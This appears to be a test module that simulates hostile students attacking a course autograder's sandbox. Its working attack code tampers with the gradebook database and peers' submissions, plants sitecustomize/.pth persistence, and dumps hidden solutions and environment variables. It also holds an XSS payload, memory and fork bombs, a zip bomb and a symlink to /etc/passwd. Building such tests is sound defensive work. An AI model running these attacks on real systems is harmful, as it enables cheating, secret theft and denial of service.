"""A hostile class: one simulated student per attack on the grader (issue 9), for tests and the demo.

Each attacker starts from the blank release (so it has earned nothing) and puts its attack in
the first answer cell. An attack tries every path it can guess (the course root it was told
of, the folders above its own), catches every error and goes on, and leaves a marker wherever
it managed to write. The grader is right when every attacker scores exactly what it earned,
its peers are unchanged, no marker exists outside the sandbox and no secret reaches its
autograded notebook or its feedback.

    notebooks = kernel_attackers(release, source, course_root, assignment)   # {student: notebook}
    files = checkpoint_attackers(folder_of)                                   # 06_challenge files
"""
from __future__ import annotations

import os
import zipfile
from pathlib import Path

from . import simulate

MARKER = "HOSTILE-MARKER-5f2c"  # written into every file an attack manages to change
OLD_PUBLIC_SKIP_TAG = "course-skip-7d1f93c0a5e2"  # the skip-tag value this repository once published
BIG_LINE_BYTES = 30 * 10**6

# Code shared by the attacks: the places a student's code would look for the grader's files.
_PRELUDE = """
import os, sys, glob, json, sqlite3, site, pathlib
_ROOT = pathlib.Path({root!r})
_ROOTS = [_ROOT] + list(pathlib.Path.cwd().parents)[:4]
def _try(fn, *args):
    try:
        return fn(*args)
    except BaseException as exc:
        return f"failed: {{type(exc).__name__}}"
def _append(path, text="\\n# {marker}\\n"):
    with open(path, "a") as f:
        f.write(text)
    return "written"
def _write(path, text="{marker}"):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    pathlib.Path(path).write_text(text)
    return "written"
"""

ATTACKS: dict[str, str] = {
    # Rewrite every score in the gradebook to full marks (a blank went 0 -> 14/14 before the sandbox).
    "gradebook": """
for _r in _ROOTS:
    _db = _r / "gradebook.db"
    if _db.exists():
        def _rewrite(db=_db):
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
            con.execute("UPDATE grade SET manual_score = 0")
            con.commit()
            return "written"
        print("gradebook", _db, _try(_rewrite))
""",
    # Overwrite the submissions of the students graded after this one.
    "peer": """
for _r in _ROOTS:
    for _stage in ("submitted", "autograded"):
        for _nb in glob.glob(str(_r / _stage / "*" / "*" / "*.ipynb")) + glob.glob(str(_r / _stage / "*" / "*" / "*.pt")):
            print("peer", _nb, _try(_write, _nb))
""",
    # Poison the code the TA runs next: helpers, the course config, a .pth and sitecustomize in site-packages.
    "poison": """
import helpers
print("helpers", _try(_append, helpers.__file__))
for _r in _ROOTS:
    print("config", _try(_append, _r / "nbgrader_config.py"))
    print("sitecustomize", _try(_write, _r / "sitecustomize.py", "print('{{\\"status\\": \\"ok\\", \\"accuracy\\": 1.0}}')  # {marker}"))
for _sp in site.getsitepackages() + [site.getusersitepackages()]:
    print("pth", _try(_write, pathlib.Path(_sp) / "zz_hostile.pth", "# {marker}"))
    print("sitecustomize", _try(_write, pathlib.Path(_sp) / "sitecustomize.py", "# {marker}"))
""",
    # Relabel the cached test sets (own model 20/20, every good model 0 before the sandbox).
    "cache": """
import numpy as np
from helpers.config import data_dir
for _d in [data_dir() / "cache"] + [_r / "data" / "cache" for _r in _ROOTS]:
    for _f in glob.glob(str(_d / "*.npz")):
        def _relabel(f=_f):
            z = dict(np.load(f, allow_pickle=False))
            z["test_labels"] = np.zeros_like(z["test_labels"])
            np.savez(f, **z)
            return "written"
        print("cache", _f, _try(_relabel))
    print("cache", _try(_write, _d / "{marker}.npz"))
""",
    # A tiers file that gives every model full marks.
    "tiers": """
_all = {{"cifar10": {{"metric": "accuracy", "tiers": [[0.0, 1.0]]}}, "cifar100": {{"metric": "macro_f1", "tiers": [[0.0, 1.0]]}}}}
for _r in _ROOTS:
    print("tiers", _try(_write, _r / "grading_tiers.json", json.dumps(_all)))
""",
    # Read the hidden tests and solutions, and the kernel's environment, into its own feedback.
    "reader": """
for _r in _ROOTS:
    for _nb in glob.glob(str(_r / "source" / "*" / "*.ipynb")):
        print("source", _nb, _try(lambda p=_nb: open(p).read()))
print("environ", json.dumps(dict(os.environ)))
""",
    # Script in its own output, to run in the browser of whoever opens the feedback page.
    "html": """
from IPython.display import HTML, display
display(HTML('<script>alert("hostile-xss")</script><img src=x onerror="alert(2)">'))
""",
    # The kernel's own stderr: flood it and try to rewrite the TA's log file through it.
    "stderr": """
os.write(2, b"\\x1b[2J" + b"e" * 5_000_000)
print("truncate", _try(os.ftruncate, 2, 0))
""",
    # A 30 MB single line of output (the old limit counted lines).
    "bigline": f"""
print("x" * {BIG_LINE_BYTES})
""",
    # Fill memory until something stops it.
    "membomb": """
_hoard = []
while True:
    _hoard.append(bytearray(50_000_000))
""",
    # Fork until something stops it.
    "forkbomb": """
import time as _time
_n = 0
while _n < 5000:
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        _time.sleep(2)
        os._exit(0)
    _n += 1
print("forked", _n)
""",
}


def _attack_cell(name: str, course_root) -> str:
    body = _PRELUDE.format(root=str(Path(course_root).resolve()), marker=MARKER) + ATTACKS[name]
    return "\n".join(line.replace("{marker}", MARKER) if "{marker}" in line else line for line in body.split("\n"))


def attacker(release, source, course_root, names=("gradebook", "peer", "poison")):
    """The blank release with several ATTACKS in its first answer cell (the demo's hostile student)."""
    first = [a for a in simulate.answer_ids(source) if a.endswith("-answer")][0]
    code = "\n".join(_attack_cell(name, course_root) for name in names)
    return simulate.with_answer(simulate.blank(release), first, code)


def kernel_attackers(release, source, course_root, assignment: str) -> dict:
    """{student id: notebook}: one blank submission per entry of ATTACKS, plus the tag, exit and deletion attacks."""
    answers = simulate.answer_ids(source)
    code_answers = [a for a in answers if a.endswith("-answer")]
    first = code_answers[0]
    out = {f"x-{name}": simulate.with_answer(simulate.blank(release), first, _attack_cell(name, course_root))
           for name in ATTACKS}
    # Every test cell tagged to be skipped: the public tag and the repository's old "secret" one.
    tagged = simulate.blank(release)
    for test in simulate.autograded_ids(source):
        tagged = simulate.tag_cell(simulate.tag_cell(tagged, test, "skip-execution"), test, OLD_PUBLIC_SKIP_TAG)
    out["x-skiptags"] = tagged
    # The solution up to the second block, then os._exit in the third answer: keeps the first two blocks.
    solved = simulate.solution(release, source)
    third = code_answers[2]
    out["x-exit"] = simulate.with_answer(solved, third, "import os\nos._exit(1)\n")
    # The solution with a written answer and the locked prompt before it deleted: both come back.
    prompts = [a for a in answers if a.startswith("q-")]
    if prompts:
        nb = simulate.delete_cell(solved, prompts[0])
        out["x-deleted-q"] = simulate.delete_cell(nb, prompts[0] + "-prompt")
    return out


def exit_kept_blocks(source) -> list[str]:
    """The test cells x-exit must keep (the blocks before its os._exit)."""
    return [tests for _, tests in simulate.blocks(source)[:2]]


# ----------------------------------------------------------------------------- checkpoints

def _meta_bomb(path: Path) -> None:
    """A valid course checkpoint (a few KB) whose model description asks for a 1,000,000-channel convolution."""
    import torch
    from ..checkpoint import save_checkpoint
    from ..models import build_model
    layers = [{"type": "conv", "out": 8}, {"type": "relu"}, {"type": "globalpool"}, {"type": "linear", "out": 10}]
    save_checkpoint(path, build_model("layers", layers=layers), history=[], mean=[0.5] * 3, std=[0.25] * 3)
    ckpt = torch.load(path, map_location="cpu", weights_only=True)
    ckpt["model"]["kwargs"]["layers"][0]["out"] = 1_000_000
    for key in ("extra", "spec"):
        if isinstance(ckpt.get(key), dict) and "kwargs" in ckpt[key]:
            ckpt[key]["kwargs"]["layers"][0]["out"] = 1_000_000
    ckpt["state_dict"] = {}
    torch.save(ckpt, path)


def _zip_bomb(path: Path, tensor_bytes: int = 2 * 10**9) -> None:
    """A torch zip checkpoint whose one tensor storage inflates to `tensor_bytes` of zeros (~2 MB on disk)."""
    import io
    import torch
    buf = io.BytesIO()
    torch.save({"model": {"name": "layers", "kwargs": {}}, "state_dict": {"w": torch.zeros(4)}}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/data/0"):  # the tensor's storage, inflated to 2 GB when read
                bomb = zipfile.ZipInfo(info.filename)
                bomb.compress_type = zipfile.ZIP_DEFLATED
                with dst.open(bomb, "w", force_zip64=True) as f:
                    chunk = bytes(2**24)
                    for _ in range(tensor_bytes // len(chunk)):
                        f.write(chunk)
            else:
                dst.writestr(info, data)


CHECKPOINT_ATTACKS = {
    "x-metabomb": lambda folder, name: _meta_bomb(folder / name),
    "x-zipbomb": lambda folder, name: _zip_bomb(folder / name),
    "x-devzero": lambda folder, name: (folder / name).symlink_to("/dev/zero"),
    "x-passwd": lambda folder, name: (folder / name).symlink_to("/etc/passwd"),
    "x-fifo": lambda folder, name: os.mkfifo(folder / name),
}


def checkpoint_attackers(folders: dict, checkpoint_name: str) -> None:
    """Put each CHECKPOINT_ATTACKS file as `checkpoint_name` into folders[student] (after submit)."""
    for student, make in CHECKPOINT_ATTACKS.items():
        folder = Path(folders[student])
        target = folder / checkpoint_name
        if target.exists() or target.is_symlink():
            target.unlink()
        make(folder, checkpoint_name)


def course_fingerprint(paths) -> dict:
    """{path: (size, mtime_ns, first bytes hash)} of every file under `paths`: to prove nothing changed."""
    import hashlib
    out = {}
    for base in map(Path, paths):
        files = [base] if base.is_file() else sorted(p for p in base.rglob("*") if p.is_file() and not p.is_symlink())
        for p in files:
            if "__pycache__" in p.parts:
                continue
            try:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
            except OSError:
                out[str(p)] = "unreadable"
    return out
